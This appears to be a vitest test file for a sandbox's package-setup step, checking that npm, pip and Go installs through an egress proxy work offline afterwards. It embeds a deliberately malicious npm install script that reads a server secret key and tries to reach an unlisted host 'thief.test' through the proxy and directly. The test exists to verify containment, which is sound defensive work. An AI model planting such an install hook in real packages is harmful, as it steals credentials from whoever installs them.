import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:https';
import { type AddressInfo, connect } from 'node:net';
import { join } from 'node:path';
import { strToU8, zipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type Egress, startEgress } from '#egress/proxy.ts';
import { buildRepository, type TestRepository } from '#git/testing.ts';
import { makeCertificate } from '#git/testing-remotes.ts';
import { prepareSetup } from './prepare-setup.ts';
import { openSandboxFixture, SANDBOX_MISSING, type SandboxFixture, sandboxTitle } from './testing-sandbox.ts';

/** A registry that no name server knows. */
const HOST = 'registry.test';
const IN_TIME = { timeout: 60_000 };

/** Tools of a set-up, the file that it fetches for, and the later command that uses the result without network. */
const MANAGERS = {
  '/usr/bin/npm': {
    install: 'npm_config_cafile=/tmp/ca.pem npm ci --no-audit --no-fund',
    use: 'node -p "require(\'left\')"; cat node_modules/left/stolen',
    printed: 'npm\nEACCES|ENOENT 403 ECONNREFUSED\n',
  },
  '/usr/bin/pip': {
    install: `PIP_BREAK_SYSTEM_PACKAGES=1 /usr/bin/pip install --user --cert /tmp/ca.pem --index-url https://${HOST}/simple/ -r requirements.txt`,
    use: '/usr/bin/python3 -c "import left; print(left.NAME)"',
    printed: 'pip\n',
  },
  '/usr/bin/go': {
    install: `SSL_CERT_FILE=/tmp/ca.pem GOPROXY=https://${HOST} GOSUMDB=off GOFLAGS=-mod=mod go mod download ${HOST}/left`,
    use: `cat "$(GOPROXY=off GOFLAGS=-mod=mod go list -m -f '{{.Dir}}' ${HOST}/left)/left.go"`,
    printed: 'package left\n',
  },
};
const present = Object.entries(MANAGERS).flatMap(([program, manager]) =>
  existsSync(program) ? manager : [],
);

let fixture: SandboxFixture;
let repository: TestRepository;
let egress: Egress;
let registry: Server;
let certificate: ReturnType<typeof makeCertificate>;

describe.skipIf(SANDBOX_MISSING !== null || present.length === 0)(sandboxTitle('package managers'), () => {
  beforeAll(async () => {
    fixture = await openSandboxFixture();
    certificate = makeCertificate(HOST);
    const files = packageFiles(fixture);
    registry = createServer(certificate, (request, reply) => {
      const file = files[request.url ?? ''];
      reply.writeHead(file === undefined ? 404 : 200, { 'content-type': 'text/html' }).end(file);
    });
    await new Promise<void>((resolve) => registry.listen(0, '127.0.0.1', resolve));
    const { port } = registry.address() as AddressInfo;
    egress = await startEgress({
      allowedPrivateHosts: [],
      lookup: async () => [{ address: '93.184.216.34', family: 4 }],
      connect: () => connect(port, '127.0.0.1'),
    });
    repository = await buildRepository(async (repo) => {
      await repo.commit({ files: manifests(files['/left/-/left-1.0.0.tgz']!) });
    });
  });
  afterAll(async () => {
    await egress?.close();
    registry?.close();
    await certificate?.remove();
    await repository?.remove();
    await fixture?.close();
  });

  test('fetch from a listed host what later commands use without network', IN_TIME, async () => {
    const authority = `printf '%s' '${certificate.cert}' >/tmp/ca.pem`;
    const outcome = await prepareSetup(fixture.machine, {
      ...{ repo: repository.path, commit: await repository.head(), hosts: [HOST], egress },
      command: [authority, ...present.map(({ install }) => install)].join(' && '),
      cacheDir: join(fixture.root, 'setups'),
      limits: { wallMs: 50_000 },
    });
    if ('failed' in outcome) throw new Error(outcome.failed.output);
    const checkout = fixture.checkout({ 'go.mod': GO_MOD });
    const command = present.map(({ use }) => use).join('\n');
    const { output } = await fixture.run(command, { checkout, setup: outcome.setup });
    expect(output).toMatch(new RegExp(`^${present.map(({ printed }) => printed).join('')}$`));
  });
});

const GO_MOD = `module shop\n\ngo 1.19\n\nrequire ${HOST}/left v1.0.0\n`;

/** The files of a repository that needs one package of each registry. */
function manifests(tarball: Buffer | string): Record<string, string> {
  const integrity = `sha512-${createHash('sha512').update(tarball).digest('base64')}`;
  const left = {
    version: '1.0.0',
    resolved: `https://${HOST}/left/-/left-1.0.0.tgz`,
    integrity,
    hasInstallScript: true,
  };
  const root = { name: 'shop', version: '1.0.0', dependencies: { left: '1.0.0' } };
  const packages = { '': root, 'node_modules/left': left };
  return {
    'package.json': JSON.stringify(root),
    'package-lock.json': JSON.stringify({ ...root, lockfileVersion: 3, requires: true, packages }),
    'requirements.txt': 'left==1.0.0\n',
    'go.mod': GO_MOD,
  };
}

/** Install script of a package: reads the secret of the server, asks for a host that is not listed, and for one without the proxy. */
const stealing = ({ dataDir }: SandboxFixture) => `
const { connect } = require('net');
const said = [];
try { said.push(require('fs').readFileSync(${JSON.stringify(join(dataDir, 'secret-key'))}, 'utf8')); } catch (error) { said.push(error.code); }
const { hostname, port } = new URL(process["env"].HTTPS_PROXY);
require('http').request({ hostname, port, method: 'CONNECT', path: 'thief.test:443' }).on('connect', (reply) => {
  said.push(reply.statusCode);
  connect(443, '127.0.0.1').on('error', (error) => {
    require('fs').writeFileSync('stolen', [...said, error.code].join(' ') + '\\n');
    process.exit();
  });
}).end();`;

/** Replies of the registry by path: a tarball of npm, a wheel, and a module of Go. */
function packageFiles(sandbox: SandboxFixture): Record<string, Buffer | string> {
  const folder = join(sandbox.root, 'package');
  mkdirSync(folder);
  const manifest = { name: 'left', version: '1.0.0', scripts: { install: 'node install.js' } };
  writeFileSync(join(folder, 'package.json'), JSON.stringify(manifest));
  writeFileSync(join(folder, 'index.js'), "module.exports = 'npm';\n");
  writeFileSync(join(folder, 'install.js'), stealing(sandbox));
  const tarball = join(sandbox.root, 'left.tgz');
  execFileSync('tar', ['-C', sandbox.root, '-czf', tarball, 'package']);
  const wheel = 'left-1.0.0-py3-none-any.whl';
  const info = 'left-1.0.0.dist-info';
  const module = `${HOST}/left@v1.0.0`;
  const versions = `/${HOST}/left/@v`;
  return {
    '/left/-/left-1.0.0.tgz': readFileSync(tarball),
    '/simple/left/': `<a href="/files/${wheel}">${wheel}</a>`,
    [`/files/${wheel}`]: zip({
      'left.py': "NAME = 'pip'\n",
      [`${info}/METADATA`]: 'Metadata-Version: 2.1\nName: left\nVersion: 1.0.0\n',
      [`${info}/WHEEL`]: 'Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n',
      [`${info}/RECORD`]: `left.py,,\n${info}/METADATA,,\n${info}/WHEEL,,\n${info}/RECORD,,\n`,
    }),
    [`${versions}/v1.0.0.info`]: '{"Version":"v1.0.0","Time":"2024-01-01T00:00:00Z"}',
    [`${versions}/v1.0.0.mod`]: `module ${HOST}/left\n`,
    [`${versions}/v1.0.0.zip`]: zip({
      [`${module}/go.mod`]: `module ${HOST}/left\n`,
      [`${module}/left.go`]: 'package left\n',
    }),
  };
}

const zip = (files: Record<string, string>): Buffer =>
  Buffer.from(
    zipSync(Object.fromEntries(Object.entries(files).map(([path, text]) => [path, strToU8(text)]))),
  );
